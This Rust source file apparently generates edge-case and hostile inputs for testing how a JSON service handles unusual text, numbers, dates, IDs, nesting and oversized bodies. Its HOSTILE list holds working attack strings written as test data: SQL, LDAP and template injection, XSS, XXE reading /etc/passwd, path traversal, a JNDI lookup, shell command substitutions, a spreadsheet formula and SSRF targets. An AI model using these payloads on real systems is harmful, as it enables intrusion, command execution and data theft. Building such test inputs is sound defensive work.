//! The lists.

use serde_json::Value;

/// How deep some values nest: one more than readers of JSON go.
const DEPTHS: [usize; 3] = [127, 129, 2_000];
/// Bytes of the longest texts.
const LONG: usize = 64 * 1024;

/// What looks like nothing, or like something else than it is.
const ODD: &[&str] = &[
    "",
    " ",
    "\t\r\n",
    "\0",
    "a\0b",
    "\u{1b}[31mred",
    "\u{7f}",
    "\u{85}",
    "\u{a0}",
    "\u{ad}",
    "\u{feff}",
    "\u{feff}abc",
    "\u{200b}",
    "\u{200d}",
    "\u{2028}\u{2029}",
    "\u{202e}gpj.exe",
    "\u{2066}a\u{2069}",
    "\u{e000}",
    "\u{fffd}",
    "\u{ffff}",
    "\u{10ffff}",
    "e\u{301}",
    "Z\u{341}\u{342}\u{343}\u{344}\u{345}\u{346}\u{347}\u{348}",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "\u{fdfa}",
    // Letters that change their length with their case.
    "\u{130}",
    "\u{131}",
    "\u{df}",
    "\u{149}",
    "\u{17f}",
    "\u{212a}",
    "\u{390}",
    "\u{fb00}",
    // Digits that are none of ours.
    "\u{663}",
    "\u{ff11}",
    "\u{bd}",
    "undefined",
    "null",
    "true",
    "__proto__",
    "constructor",
];

/// What somebody would want to be run, opened or read as more than a text.
const HOSTILE: &[&str] = &[
    "'; DROP TABLE users;--",
    "' OR '1'='1",
    "\" or \"\"=\"",
    "*",
    "a*)(uid=*))(|(uid=*",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<!--",
    "]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "%00",
    "%",
    "%zz",
    "%ff",
    "/dev/null",
    "C:\\CON",
    "%s%s%s%n",
    "{0}",
    "{{7*7}}",
    "${jndi:ldap://host.invalid/a}",
    "$(reboot)",
    "`id`",
    "| id",
    "=cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a=b",
    "\\",
    "\\u0000",
    "\\ud800",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "//host.invalid",
    "/\\host.invalid",
    "http://169.254.169.254/latest/meta-data/",
    "https://[::1]:1/",
    "https://10.0.0.1/",
    "https://user:secret@10.0.0.1/",
    "https://0x7f000001/",
    "https://",
    "https:///",
    "https://:443",
    "http://127.0.0.1:1/",
    "http://127.0.0.1:99999/",
];

/// Numbers and what passes for them.
const NUMBERS: &[&str] = &[
    "NaN",
    "Infinity",
    "-Infinity",
    "1e309",
    "1e-400",
    "0x10",
    "1_000",
    "1,000.00",
    "--1",
    "+1",
    ".5",
    "5.",
    "-0",
    "0",
    "-1",
    "1",
    "201",
    "2147483648",
    "4294967296",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "79228162514264337593543950335",
    "0.0000000000000000000000000001",
];

/// Days and times, of which most cannot be.
const TIMES: &[&str] = &[
    "0000-00-00",
    "0000-01-01",
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "-0001-01-01T00:00:00Z",
    "1582-10-10",
    "1900-02-29",
    "1969-12-31T23:59:59Z",
    "2016-12-31T23:59:60Z",
    "2024-02-30T00:00:00Z",
    "2026-01-01",
    "2026-01-01T00:00:00",
    "2026-01-01 00:00:00Z",
    "2026-01-01T00:00:00+23:59",
    "2026-01-01T00:00:00-99:99",
    "2026-01-01T24:00:00Z",
    "2026-13-01T00:00:00Z",
    "2038-01-19T03:14:08Z",
    "9999-12-31",
    "9999-12-31T23:59:59.999999999Z",
    "10000-01-01T00:00:00Z",
    "+10000-01-01T00:00:00Z",
    "+262142-12-31",
    "+262142-12-31T23:59:59.999999999Z",
    "-262143-01-01",
    "-262143-01-01T00:00:00Z",
    "00:00",
    "24:00",
    "23:59:60",
    "-1:00",
    "UTC",
    "Etc/GMT+12",
    "Africa/Cairo",
    "America/Sao_Paulo",
    "../Europe/Berlin",
];

/// Names of things, near to what the house gives.
const NAMES: &[&str] = &[
    "acc_01jd7bz8v6m3t9q2x4w7y0c1df",
    "usr_00000000000000000000000000",
    "usr_7zzzzzzzzzzzzzzzzzzzzzzzzz",
    "usr_8zzzzzzzzzzzzzzzzzzzzzzzzz",
    "org_01jd7bz8v6m3t9q2x4w7y0c1d",
    "chn_01JD7BZ8V6M3T9Q2X4W7Y0C1DF",
    "wp:demo:1",
    "wp:demo:18446744073709551616",
    "wp::",
    "demo",
    "OUTBOX#0",
    "#",
    "##",
    "a#b",
    "@",
    "a@b",
    "a@@people.example",
    "\"a b\"@people.example",
    "a@[127.0.0.1]",
    "A\u{130}@people.example",
    "owner@people.example",
    "tbr_",
    "tbr_0.0",
    "tbd_x",
    "eyJhbGciOiJub25lIn0.e30.",
    "..",
    "AAAA",
    "AAA=",
    "////",
    "====",
    "00000000-0000-0000-0000-000000000000",
    "XAUUSD",
    "GOLD BUY 2345\nSL 2338\nTP1 2352",
];

/// Lengths about which bounds lie.
const LENGTHS: [usize; 9] = [63, 65, 100, 101, 128, 129, 255, 257, 1_025];

/// All texts.
#[must_use]
pub fn texts() -> Vec<String> {
    let lists = [ODD, HOSTILE, NUMBERS, TIMES, NAMES];
    let fixed = lists.into_iter().flatten().map(|text| (*text).to_owned());
    let long = LENGTHS
        .into_iter()
        .flat_map(|length| [repeat("a", length), repeat("\u{1f600}", length)]);
    fixed.chain(long).collect()
}

/// JSON strings as they are written, of which some are none.
pub(super) fn strings() -> Vec<String> {
    let written = texts()
        .into_iter()
        .map(|text| Value::from(text).to_string());
    let escapes = [
        r#""\ud800""#,
        r#""a\udfff""#,
        r#""\udc00\ud800""#,
        r#""\ud83d\u0041""#,
        r#""\u0000""#,
        r#""\x41""#,
        r#""\u12""#,
        r#"'a'"#,
        "\"a\u{1}b\"",
        r#""a"#,
    ];
    written.chain(escapes.map(str::to_owned)).collect()
}

/// JSON numbers as they are written, of which some are none.
pub(super) fn numbers() -> Vec<String> {
    let beyond = [
        "-0",
        "-0.0",
        "0e0",
        "0.1",
        "0.5",
        "99.99",
        "100",
        "1e2",
        "1E+2",
        "1e27",
        "1e28",
        "-1e28",
        "1e29",
        "-1e309",
        "1e999999999999",
        "-1e-999999999999",
        "7.9e28",
        "-79228162514264337593543950335",
        "79228162514264337593543950336",
        "7922816251426433759354395033.5",
        "0.00000000000000000000000000001",
        "1.0000000000000000000000000001",
        "9007199254740993",
        "01",
        "1.",
        "-",
        "1e",
    ];
    let fixed = NUMBERS.iter().copied().chain(beyond).map(str::to_owned);
    let long = [
        format!("1{}", repeat("0", 400)),
        format!("0.{}1", repeat("0", 400)),
    ];
    fixed.chain(long).collect()
}

/// Values that are neither, from outside or from inside a list or an object.
pub(super) fn others() -> Vec<String> {
    let fixed = [
        "null",
        "true",
        "false",
        "{}",
        "[]",
        "[null]",
        "[[]]",
        r#"[""]"#,
        r#"[0,"0",null,{}]"#,
        r#"{"":""}"#,
        r#"{"__proto__":{"a":1}}"#,
        r##"{"$ref":"#/"}"##,
        r#"{"S":"a"}"#,
        r#"{"N":"1"}"#,
        r#"{"NULL":true}"#,
        "undefined",
        "",
    ];
    let nested = DEPTHS
        .into_iter()
        .flat_map(|depth| [nest("[", "]", depth), nest(r#"{"a":"#, "}", depth)]);
    fixed.map(str::to_owned).into_iter().chain(nested).collect()
}

/// Values of a size that shows what grows with its square.
pub(super) fn long() -> Vec<String> {
    let list = |item: &str, count| format!("[{}]", vec![item; count].join(","));
    let keys: Vec<String> = (0..5_000).map(|key| format!(r#""k{key}":{key}"#)).collect();
    vec![
        format!("\"{}\"", repeat("a", LONG)),
        format!("\"{}\"", repeat("\u{1f600}", LONG / 4)),
        format!("\"{}\"", repeat(r"\u0000", LONG / 6)),
        format!("\"{}\"", repeat("BUY 1 ", LONG / 6)),
        format!("\"{}\"", repeat("{{", LONG / 2)),
        repeat("9", LONG),
        format!("0.{}", repeat("3", LONG)),
        list("0", LONG / 2),
        list("\"a\"", LONG / 4),
        list("{}", LONG / 3),
        format!("{{{}}}", keys.join(",")),
        nest("[", "]", LONG / 2),
    ]
}

/// Bodies that are no object, and mostly no JSON.
pub(super) fn documents() -> Vec<Vec<u8>> {
    let texts = [
        "",
        " ",
        "null",
        "true",
        "0",
        "\"\"",
        "[]",
        "[{}]",
        "{}",
        "{}{}",
        "{} x",
        "{",
        "}",
        "{\"",
        "{\"a\"",
        "{\"a\":",
        "{'a':1}",
        "{a:1}",
        "{\"a\":1,}",
        "[1,]",
        "// a\n{}",
        "/* */{}",
        "\u{feff}{}",
        "NaN",
        "<a/>",
        "a=1&b=2",
        "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--",
    ];
    let bytes: [&[u8]; 7] = [
        b"\0",
        b"\xff\xfe{\0}\0",
        b"{\"a\":\xff}",
        b"{\"\xc0\xaf\":1}",
        b"\"\xed\xa0\x80\"",
        b"\x1f\x8b\x08\0\0\0\0\0",
        b"PK\x03\x04",
    ];
    let nested = [nest("[", "", LONG), nest(r#"{"a":"#, "", LONG / 5)];
    let texts = texts.into_iter().map(|text| text.as_bytes().to_vec());
    texts
        .chain(bytes.map(<[u8]>::to_vec))
        .chain(nested.map(String::into_bytes))
        .collect()
}

fn repeat(text: &str, count: usize) -> String {
    text.repeat(count)
}

fn nest(open: &str, close: &str, depth: usize) -> String {
    format!("{}{}", repeat(open, depth), repeat(close, depth))
}
